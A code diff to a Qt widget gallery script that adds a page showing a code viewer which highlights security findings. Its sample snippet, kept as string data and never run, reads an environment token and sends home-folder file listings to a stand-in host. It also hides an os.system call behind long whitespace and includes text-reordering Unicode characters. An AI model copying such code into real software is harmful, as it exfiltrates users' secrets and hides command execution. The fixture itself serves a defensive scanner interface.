@@ -31,12 +31,13 @@ from PySide6.QtWidgets import (
 from app.look import Look, Theme
 from app.parts import amounts
 from app.parts.badge import Badge
+from app.parts.code import CodeView
 from app.parts.elide import ElidedLabel
 from app.parts.empty import EmptyState
 from app.parts.gauge import Gauge
 from app.parts.notice import Notice, Tone
 from app.parts.ring import CountdownRing
-from runner.assessment import Level
+from runner.assessment import Capability, Finding, Level, Span
 
 OUT = Path(__file__).resolve().parents[3] / "build" / "gallery"
 
@@ -99,6 +100,7 @@ def small_parts(look: Look) -> QWidget:
         row.addWidget(widget)
     column.addLayout(row)
     tabs = QTabBar()
+    tabs.setExpanding(False)
     tabs.addTab("run 1841")
     tabs.addTab("run 1842")
     column.addWidget(tabs)
@@ -107,10 +109,13 @@ def small_parts(look: Look) -> QWidget:
     rows.setCurrentRow(1)
     rows.setMaximumHeight(look.px(110))
     column.addWidget(rows)
-    for role in ("title", "large", "heading", "muted", "small", "ok", "warn", "bad", "mono"):
+    for role in ("title", "large", "heading", "muted", "small", "ok", "warn", "bad"):
         label = QLabel(f"{role}: 312 MB of 512 MB != -> https://")
         label.setProperty("role", role)
         column.addWidget(label)
+    code = QLabel("mono: 312 MB of 512 MB != -> https://")
+    code.setFont(look.mono())
+    column.addWidget(code)
     return page
 
 
@@ -152,7 +157,69 @@ def empty(look: Look) -> QWidget:
     )
 
 
-PAGES = {"small": (small_parts, QSize(900, 760)), "gauges": (cards, QSize(560, 330)), "empty": (empty, QSize(600, 340))}
+CODE = (
+    """import os, subprocess, json
+import requests
+from pathlib import Path
+
+API = "https://api.example.com/v1/metrics"
+
+def collect(root: Path) -> dict:
+    \"\"\"Walk the tree and collect file sizes.
+
+    Over two lines.\"\"\"
+    out = {}
+    for p in root.rglob("*"):
+\t\tif p.is_file() and p.stat().st_size != 0:  # a comment
+            out[str(p)] = p.stat().st_size
+    return out
+
+uname = subprocess.run(["uname", "-a"], capture_output=True, text=True)
+token = os.environ["METRICS_TOKEN"]
+payload = {"files": collect(Path.home()), "x": 1}
+r = requests.post(API, json=payload, headers={"Authorization": token, "User-Agent": "metrics/1.0"}, timeout=30)
+hidden = "a\u202eb\u200bc\u00a0d" + "\u05d0\u05d1\u05d2 123" + "\u65e5\u672c\u8a9e" + "\U0001f600"
+"""
+    + "x = 1"
+    + " " * 130
+    + """; os.system("far away")
+print(r.status_code, len(payload["files"]))
+"""
+)
+
+
+def finding(line: int, column: int, length: int, level: Level, reason: str) -> Finding:
+    return Finding(
+        "python.example", level, Capability.NETWORK, Span(line, column, line, column + length), "", reason, "T1059"
+    )
+
+
+FINDINGS = (
+    finding(2, 7, 8, Level.MEDIUM, "Uses a network library."),
+    finding(17, 8, 14, Level.MEDIUM, "Starts a program."),
+    finding(18, 8, 10, Level.HIGH, "Reads a secret from the environment."),
+    finding(19, 28, 11, Level.HIGH, "Lists everything in the home folder of the person who runs it."),
+    finding(20, 4, 13, Level.CRITICAL, "Sends what was collected to another computer, together with a secret."),
+    finding(20, 60, 5, Level.MEDIUM, "Uses a network library."),
+    finding(21, 11, 3, Level.CRITICAL, "Holds characters that change the order in which the text is read."),
+    finding(22, 137, 9, Level.CRITICAL, "Runs a shell command."),
+)
+
+
+def code(look: Look) -> QWidget:
+    view = CodeView(look)
+    view.set_code(CODE, "python", FINDINGS)
+    view.setFocus()
+    view.scroll_to(17)
+    return view
+
+
+PAGES = {
+    "code": (code, QSize(760, 620)),
+    "small": (small_parts, QSize(900, 760)),
+    "gauges": (cards, QSize(560, 330)),
+    "empty": (empty, QSize(600, 340)),
+}
 
 
 def draw(app: QApplication, only: str = "") -> None:
